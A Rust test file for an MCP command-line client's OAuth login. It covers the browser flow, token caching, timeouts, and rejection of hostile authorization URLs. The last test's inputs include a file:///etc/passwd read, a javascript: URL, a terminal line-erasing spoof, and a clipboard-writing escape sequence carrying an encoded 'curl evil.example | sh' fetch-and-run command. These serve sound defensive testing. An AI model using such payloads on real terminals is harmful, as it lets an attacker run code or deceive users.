//! `mcp --http` against an OAuth-protected server (a loopback mock of an MCP
//! server and its authorization server): the CLI prints the authorization
//! URL, this test plays the browser (GET the URL, follow the redirect to the
//! CLI's 127.0.0.1 listener), the command succeeds, the token is cached, and
//! a second run uses it without asking.

#![allow(clippy::unwrap_used)] // test code

use std::io::Read;
use std::process::{Command, Stdio};
use std::time::Duration;

const MCP: &str = env!("CARGO_BIN_EXE_mcp");

#[path = "support/oauth_mock.rs"]
mod oauth_mock;

use oauth_mock::*;

#[test]
fn cli_authorizes_in_the_browser_then_uses_the_cached_token() {
    let (base, log) = start_mock();
    let dir = std::env::temp_dir().join(format!("mcp-cli-oauth-{}", std::process::id()));
    let token_file = dir.join("tokens.json");
    let url = format!("{base}/mcp");

    let mut child = Command::new(MCP)
        .args(["--http", &url, "--json", "tools"])
        .env("MCP_TOKEN_FILE", &token_file)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let stderr = child.stderr.take().unwrap();
    let rx = log_in_from(stderr, Duration::ZERO);
    let mut stdout = String::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut stdout)
        .unwrap();
    let status = child.wait().unwrap();
    let stderr = rx.recv_timeout(Duration::from_secs(30)).unwrap();
    assert!(status.success(), "stderr: {stderr}\nstdout: {stdout}");
    assert!(stderr.contains("open this URL"), "{stderr}");
    assert!(stdout.contains("secret_tool"), "{stdout}");
    assert!(log.lock().unwrap().contains(&"GET /authorize".to_owned()));
    // The token is cached, and never printed.
    let cached = std::fs::read_to_string(&token_file).unwrap();
    assert!(cached.contains(TOKEN));
    assert!(!stderr.contains(TOKEN) && !stdout.contains(TOKEN));

    // Second run: no authorization.
    log.lock().unwrap().clear();
    let out = Command::new(MCP)
        .args(["--http", &url, "tools"])
        .env("MCP_TOKEN_FILE", &token_file)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(!stderr.contains("open this URL"), "{stderr}");
    let log = log.lock().unwrap().clone();
    assert!(
        !log.iter()
            .any(|l| l.contains("authorize") || l.contains("token")),
        "{log:?}"
    );
    let _ = std::fs::remove_dir_all(dir);
}

#[test]
fn no_oauth_flag_keeps_the_401() {
    let (base, log) = start_mock();
    let out = Command::new(MCP)
        .args(["--http", &format!("{base}/mcp"), "--no-oauth", "tools"])
        .env(
            "MCP_TOKEN_FILE",
            std::env::temp_dir().join("mcp-cli-oauth-unused.json"),
        )
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("401"), "{stderr}");
    assert!(!log.lock().unwrap().iter().any(|l| l.contains("well-known")));
}

/// The browser login is the user's time, not the server's (issue 33 #4):
/// with `--timeout 1`, a login that takes 2 s in the browser still
/// completes, because the login's own allowance starts when the URL is
/// printed (and only then: see tests/hostile.rs for a server that never
/// asks for a login and is cut off at the timeout).
#[test]
fn a_login_slower_than_the_timeout_is_not_cut_short() {
    let (base, _log) = start_mock();
    let dir = std::env::temp_dir().join(format!("mcp-cli-oauth-slow-{}", std::process::id()));
    let url = format!("{base}/mcp");
    let mut child = Command::new(MCP)
        .args(["--http", &url, "--timeout", "1", "tools"])
        .env("MCP_TOKEN_FILE", dir.join("tokens.json"))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let stderr = child.stderr.take().unwrap();
    // A person reading the URL and logging in: longer than --timeout.
    let rx = log_in_from(stderr, Duration::from_secs(2));
    let mut stdout = String::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut stdout)
        .unwrap();
    let status = child.wait().unwrap();
    let stderr = rx.recv_timeout(Duration::from_secs(30)).unwrap();
    assert!(status.success(), "stderr: {stderr}\nstdout: {stdout}");
    assert!(stdout.contains("secret_tool"), "{stdout}");
    let _ = std::fs::remove_dir_all(dir);
}

/// A hostile authorization server's endpoint never reaches the terminal:
/// not a `javascript:` URL, not one carrying OSC 52 (which would write the
/// clipboard) or a line-erasing CSI. `mcp` fails at once naming the refusal,
/// without printing an authorization URL or waiting for a browser.
#[test]
fn hostile_authorization_urls_are_never_printed() {
    for endpoint in [
        "javascript:alert(document.domain)//",
        "file:///etc/passwd",
        "https://as.example/authorize\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}",
        "https://as.example/authorize\u{1b}[2K\rmcp: authorized",
        "http://as.example/authorize",
    ] {
        let (base, log) = start_mock_with(Some(endpoint));
        let dir =
            std::env::temp_dir().join(format!("mcp-cli-oauth-hostile-{}", std::process::id()));
        let mut child = Command::new(MCP)
            .args(["--http", &format!("{base}/mcp"), "--timeout", "20", "tools"])
            .env("MCP_TOKEN_FILE", dir.join("tokens.json"))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // Refused at once: no browser to wait for (the login allowance would
        // keep it waiting minutes).
        let deadline = std::time::Instant::now() + Duration::from_secs(15);
        let status = loop {
            if let Some(status) = child.try_wait().unwrap() {
                break status;
            }
            if std::time::Instant::now() > deadline {
                let _ = child.kill();
                let _ = child.wait();
                panic!("{endpoint:?}: mcp waits for a browser to come back");
            }
            std::thread::sleep(Duration::from_millis(20));
        };
        let mut stderr = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut stderr)
            .unwrap();
        assert_eq!(status.code(), Some(3), "{endpoint:?}: {stderr}");
        assert!(!stderr.contains("open this URL"), "{stderr}");
        assert!(stderr.contains("refused URL"), "{stderr}");
        assert!(
            !stderr.contains('\u{1b}') && !stderr.contains('\u{7}'),
            "{stderr:?}"
        );
        let log = log.lock().unwrap().clone();
        assert!(
            !log.iter()
                .any(|l| l.contains("register") || l.contains("token")),
            "{log:?}"
        );
        let _ = std::fs::remove_dir_all(&dir);
    }
}
